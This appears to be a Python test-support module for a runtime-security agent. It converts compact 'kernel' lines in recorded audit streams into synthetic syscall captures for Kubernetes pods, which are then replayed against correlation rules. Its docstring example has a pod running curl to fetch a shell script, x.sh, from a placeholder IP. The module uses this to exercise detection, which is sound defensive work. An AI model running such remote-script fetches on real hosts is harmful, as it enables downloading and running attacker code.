"""Kernel behaviour written compactly in recorded streams, turned into real kernel captures.

A line `{"kernel": {...}}` of a stream says what a process in a pod does; everything else on the line's
stream is audit or CloudTrail input as recorded. The kernel lines become real `SyscallRecord`s applied
to a `KernelState` over a `FakeHost` (one container per pod, its `io.kubernetes.pod.*` labels served
as the runtime would), with a `CaptureWriter` as the state's observer: the capture is then replayed
like any other (`falco-agent replay`), so every field comes from the kernel source's own extractors.

A kernel line:

    {"kernel": {"time": "2024-06-03T10:02:00Z", "pod": "payments/api-6d8f9c7b5d-x2k4l",
                "run": ["/usr/bin/curl", "http://198.51.100.20/x.sh"], "connect": "198.51.100.20:80"}}

`run`: the pod's main process forks and execs this argv (`execve`); then the new process may `open` a
path (`openat`), `connect` to `IP:PORT` or to a unix socket `/path` (`socket` + `connect`) or `mount`
`[device, directory]`, which succeeds unless `fails` names the errno it returns (`"fails": "ENXIO"`).
The last record happens at `time`, the ones before it 1 ms apart.

Run `python -m tests.support.kernel_scenarios STREAM OUT_DIR` to write a stream's input files (audit or
CloudTrail JSON lines, kernel captures) into OUT_DIR and print their paths in arrival order, for
`falco-agent replay -r rules/correlation.yaml $(...)`.
"""

from __future__ import annotations

import errno
import hashlib
import ipaddress
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from itertools import groupby
from pathlib import Path
from typing import Any

import orjson

from sources.kernel.capture import write_capture
from sources.kernel.state import Accounts, ContainerMeta, KernelState, UserEntry
from sources.kernel.state.sockaddr import AF_INET, AF_INET6, AF_UNIX, SockAddr, pack_sockaddr
from tests.sources.kernel.state_fixtures import FakeHost, Stream, inet, snapshot

KERNEL = "kernel"
SOCK_STREAM = 1
_STEP_NS = 1_000_000
_FIRST_CHILD_PID = 20_000
_ROOT_ONLY = Accounts({0: UserEntry(0, "root", "/root", "/bin/sh")}, {0: "root"})


@dataclass(frozen=True)
class Pod:
    """A pod's one container as the runtime describes it; its main process runs `pid`."""

    namespace: str
    name: str
    pid: int

    @property
    def container_id(self) -> str:
        """A full 64-hex container id, the same for the same pod in every stream."""
        return hashlib.sha256(f"{self.namespace}/{self.name}".encode()).hexdigest()

    @property
    def short_id(self) -> str:
        """container.id as the kernel source prints it."""
        return self.container_id[:12]

    def meta(self) -> ContainerMeta:
        return ContainerMeta(self.container_id, name=f"k8s_app_{self.name}_{self.namespace}_0",
                             image="ghcr.io/acme/app:1.0", privileged=False, start_ns=1, runtime="containerd",
                             labels={"io.kubernetes.pod.namespace": self.namespace,
                                     "io.kubernetes.pod.name": self.name,
                                     "io.kubernetes.container.name": "app"})


def pod(text: str, pid: int = 0) -> Pod:
    """`namespace/name` as a Pod."""
    namespace, _, name = text.partition("/")
    assert namespace and name, f"pod must be 'namespace/name': {text!r}"
    return Pod(namespace, name, pid)


def time_ns(text: str) -> int:
    """An ISO-8601 time (`2024-06-03T10:00:03Z`, fractions allowed) in ns since the epoch."""
    moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    return int(moment.timestamp()) * 1_000_000_000 + moment.microsecond * 1000


def pod_host(pods: list[Pod]) -> FakeHost:
    """A node running systemd and, per pod, the container's main process (`sh`, pid 1 inside it)."""
    host = FakeHost(
        snapshots=[snapshot(1, 0, "systemd", exe="/sbin/init", exepath="/usr/lib/systemd/systemd"),
                   *(snapshot(p.pid, 1, "sh", exepath="/bin/sh", args=("-c", "exec app"),
                              container_id=p.container_id, vpid=1) for p in pods)],
        users={"": Accounts({0: UserEntry(0, "root", "/root", "/bin/bash")}, {0: "root"})},
    )
    for p in pods:
        host.users[p.container_id] = _ROOT_ONLY
        host.containers[p.container_id] = p.meta()
    return host


def write_kernel_capture(lines: list[dict[str, Any]], path: Path) -> None:
    """Apply the records the kernel lines describe to a KernelState over a FakeHost, captured to `path`."""
    names = list(dict.fromkeys(line["pod"] for line in lines))
    pods = {name: pod(name, pid=1000 + 100 * index) for index, name in enumerate(names)}
    host = pod_host(list(pods.values()))
    with write_capture(path) as writer:
        state = KernelState(host, observer=writer, fetch_containers=True)
        stream = Stream(host, seed=False)
        stream.state = state
        try:
            state.seed()
            # The runtime answered for every pod's container before the first record (as a node's agent
            # would have long before an exec session starts).
            state.settle_containers(timeout_s=5)
            for child, line in enumerate(lines, start=_FIRST_CHILD_PID):
                _apply(stream, pods[line["pod"]], child, line)
        finally:
            state.close()


def _apply(stream: Stream, where: Pod, child: int, line: dict[str, Any]) -> None:
    unknown = set(line) - {"time", "pod", "run", "open", "connect", "mount", "fails"}
    assert not unknown, f"unknown keys in kernel line: {sorted(unknown)}"
    argv = line["run"]
    actions = 2 + ("open" in line) + 2 * ("connect" in line) + ("mount" in line)
    assert "fails" not in line or actions > 2, "`fails` needs an open, connect or mount to fail"
    res = -getattr(errno, line["fails"]) if "fails" in line else 0
    # Stream.record advances its clock by one step before each record: the last one lands on `time`.
    stream.ts_ns = time_ns(line["time"]) - actions * _STEP_NS
    stream.spawn(where.pid, child, argv[0], *argv[1:])
    if "open" in line:
        stream.open(child, line["open"], res=res or 3)
    if "connect" in line and line["connect"].startswith("/"):
        stream.record("socket", child, res=3, domain=AF_UNIX, type=SOCK_STREAM, proto=0)
        stream.record("connect", child, res=res, fd=3, addr=pack_sockaddr(SockAddr(AF_UNIX, path=line["connect"])))
    elif "connect" in line:
        host, _, port = line["connect"].rpartition(":")
        ip = ipaddress.ip_address(host.strip("[]"))
        stream.record("socket", child, res=3, domain=AF_INET6 if ip.version == 6 else AF_INET, type=SOCK_STREAM,
                      proto=0)
        stream.record("connect", child, res=res, fd=3, addr=inet(str(ip), int(port)))
    if "mount" in line:
        device, directory = line["mount"]
        stream.record("mount", child, res=res, dev=device, dir=directory, type="ext4", flags=0)


def stream_lines(path: Path) -> list[tuple[bool, bytes]]:
    """Each non-empty line of a stream, with whether it is a kernel line."""
    out = []
    for raw in path.read_bytes().splitlines():
        if raw.strip():
            out.append((KERNEL in orjson.loads(raw), raw))
    return out


def stream_files(path: Path, out_dir: Path) -> list[Path]:
    """A stream as input files in arrival order: each run of kernel lines a capture, each other run JSON lines."""
    out_dir.mkdir(parents=True, exist_ok=True)
    files: list[Path] = []
    for index, (is_kernel, run) in enumerate(groupby(stream_lines(path), key=lambda item: item[0])):
        raws = [raw for _, raw in run]
        stem = path.name.removesuffix(".jsonl")
        if is_kernel:
            target = out_dir / f"{stem}.{index}.kernel-capture.jsonl"
            write_kernel_capture([orjson.loads(raw)[KERNEL] for raw in raws], target)
        else:
            target = out_dir / f"{stem}.{index}.jsonl"
            target.write_bytes(b"\n".join(raws) + b"\n")
        files.append(target)
    return files


def kernel_pods(path: Path) -> Iterator[Pod]:
    """The pods a stream's kernel lines name, in order of first appearance."""
    seen = dict.fromkeys(orjson.loads(raw)[KERNEL]["pod"] for is_kernel, raw in stream_lines(path) if is_kernel)
    yield from (pod(name) for name in seen)


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit("usage: python -m tests.support.kernel_scenarios STREAM OUT_DIR")
    for written in stream_files(Path(sys.argv[1]), Path(sys.argv[2])):
        print(written)
